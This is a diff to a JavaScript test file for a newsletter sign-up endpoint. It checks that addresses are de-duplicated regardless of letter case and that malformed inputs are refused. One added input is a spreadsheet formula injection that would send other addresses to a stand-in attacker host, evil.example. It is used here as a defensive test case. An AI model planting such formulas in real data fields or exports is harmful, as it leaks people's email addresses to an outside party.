@@ -97,7 +97,7 @@ describe('rate limits', () => {
 });
 
 describe('POST /api/newsletter', () => {
-  it('keeps one subscriber per address whatever the letter case, and refuses invalid addresses', async () => {
+  it('keeps one sign-up per address whatever the letter case, and refuses invalid addresses', async () => {
     const server = await start({ rateLimits: { contact: 50, newsletter: 50 } });
     for (const email of ['reader@example.com', 'Reader@Example.COM', '  reader@example.com  ']) {
       const res = await postJson(`${server.url}/api/newsletter`, { email });
@@ -107,7 +107,8 @@ describe('POST /api/newsletter', () => {
     expect(
       (await postJson(`${server.url}/api/newsletter`, { email: 'other@example.com', extra: 'ignored' })).status,
     ).toBe(200);
-    expect(server.app.store.subscribers().map((s) => s.email)).toEqual(['reader@example.com', 'other@example.com']);
+    const pending = () => server.app.store.newsletter.list({ pending: true }).map((s) => s.email);
+    expect(pending()).toEqual(['reader@example.com', 'other@example.com']);
 
     for (const body of [
       {},
@@ -118,6 +119,11 @@ describe('POST /api/newsletter', () => {
       { email: ['a@example.com'] },
       { email: 'a\n@example.com' },
       { email: `${'a'.repeat(250)}@example.com` },
+      // A spreadsheet formula that sends the other addresses away (an outside probe's), and other non-addresses.
+      { email: '=HYPERLINK("https://evil.example/?"&A2,"x@evil.example")' },
+      { email: '"a,b"@example.com' },
+      { email: 'a@example.com, b@example.com' },
+      { email: 'a@-evil.example' },
     ]) {
       const res = await postJson(`${server.url}/api/newsletter`, body);
       expect(res.status, JSON.stringify(body)).toBe(400);
@@ -127,7 +133,7 @@ describe('POST /api/newsletter', () => {
     expect((await postJson(`${server.url}/api/newsletter`, { email: 'bot@example.com', website: 'x' })).status).toBe(
       200,
     );
-    expect(server.app.store.subscribers()).toHaveLength(2);
+    expect(pending()).toHaveLength(2);
   });
 });
 
